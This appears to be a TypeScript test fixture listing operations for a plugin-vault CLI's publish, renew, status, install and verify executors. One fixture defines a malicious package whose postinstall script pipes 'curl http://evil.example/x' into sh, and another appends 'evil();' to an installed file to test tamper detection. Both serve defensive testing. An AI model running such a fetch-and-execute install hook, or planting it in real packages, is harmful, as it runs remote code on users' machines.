import { appendFile, mkdir, realpath, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import installExecutor from '../../tools/nx-plugin/src/executors/install/executor.ts';
import publishExecutor from '../../tools/nx-plugin/src/executors/publish/executor.ts';
import renewExecutor from '../../tools/nx-plugin/src/executors/renew/executor.ts';
import statusExecutor from '../../tools/nx-plugin/src/executors/status/executor.ts';
import verifyExecutor from '../../tools/nx-plugin/src/executors/verify/executor.ts';
import verifyRepoExecutor from '../../tools/nx-plugin/src/executors/verify-repo/executor.ts';
import { executor, type Said } from './faces.ts';

/** Something that the command and an executor do, one after the other in folders that are alike. */
export interface Operation {
  readonly name: string;
  readonly line: string;
  readonly run: (root: string) => Promise<Said>;
  readonly prepare?: (root: string) => Promise<void>;
}

const EVIL = {
  name: '@acme/evil',
  version: '1.0.0',
  scripts: { postinstall: 'curl http://evil.example/x | sh' },
};
const SOURCE = { repo: 'vault', root: 'vault/root.json' };

const publish =
  (plugin: string, options: object = {}) =>
  (root: string) =>
    executor(publishExecutor, { plugins: [plugin], repoDir: 'vault', ...options }, root);
const install = (options: object) => (root: string) => executor(installExecutor, options, root);
const verify = (root: string) => executor(verifyExecutor, {}, root);

export const OPERATIONS: readonly Operation[] = [
  {
    name: 'a dry run',
    line: 'publish plugins-src/hello --dry-run',
    run: publish('plugins-src/hello', { dryRun: true }),
  },
  { name: 'a publish', line: 'publish plugins-src/hello', run: publish('plugins-src/hello') },
  { name: 'a publish of the same', line: 'publish plugins-src/hello', run: publish('plugins-src/hello') },
  {
    name: 'a publish of other bytes',
    prepare: (root) => appendFile(join(root, 'plugins-src/hello/index.js'), '// more\n'),
    line: 'publish plugins-src/hello',
    run: publish('plugins-src/hello'),
  },
  {
    name: 'a publish that skips other bytes',
    line: 'publish plugins-src/hello --skip-existing',
    run: publish('plugins-src/hello', { skipExisting: true }),
  },
  {
    name: 'a publish of a malicious plugin',
    prepare: async (root) => {
      await mkdir(join(root, 'evil'));
      await writeFile(join(root, 'evil/package.json'), JSON.stringify(EVIL));
    },
    line: 'publish evil',
    run: publish('evil'),
  },
  { name: 'a publish of nothing', line: 'publish none', run: publish('none') },
  {
    name: 'a publish into no vault',
    line: 'publish plugins-src/hello --repo-dir none',
    run: publish('plugins-src/hello', { repoDir: 'none' }),
  },
  { name: 'a renewal', line: 'renew', run: (root) => executor(renewExecutor, { repoDir: 'vault' }, root) },
  {
    name: 'a renewal that is not needed',
    line: 'renew --if-needed',
    run: (root) => executor(renewExecutor, { repoDir: 'vault', ifNeeded: true }, root),
  },
  { name: 'the status', line: 'status', run: (root) => executor(statusExecutor, { repoDir: 'vault' }, root) },
  {
    name: 'the repository',
    line: 'verify-repo',
    run: (root) => executor(verifyRepoExecutor, { repoDir: 'vault' }, root),
  },
  {
    name: 'an install',
    line: 'install @acme/hello --repo vault --root vault/root.json --no-save',
    run: install({ plugins: ['@acme/hello'], ...SOURCE }),
  },
  {
    name: 'an install of what is not there',
    line: 'install @acme/none --repo vault --root vault/root.json --no-save',
    run: install({ plugins: ['@acme/none'], ...SOURCE }),
  },
  {
    name: 'an install of a project',
    prepare: (root) =>
      writeFile(
        join(root, 'ragnos-vault.json'),
        JSON.stringify({ repo: './vault', root: './vault/root.json', plugins: { '@acme/hello': '*' } }),
      ),
    line: 'install',
    run: install({}),
  },
  { name: 'a frozen install', line: 'install --frozen', run: install({ frozen: true }) },
  { name: 'what is installed', line: 'verify', run: verify },
  {
    name: 'what was changed on disk',
    prepare: async (root) =>
      appendFile(await realpath(join(root, 'plugins/current/acme/hello/index.js')), 'evil();\n'),
    line: 'verify',
    run: verify,
  },
];
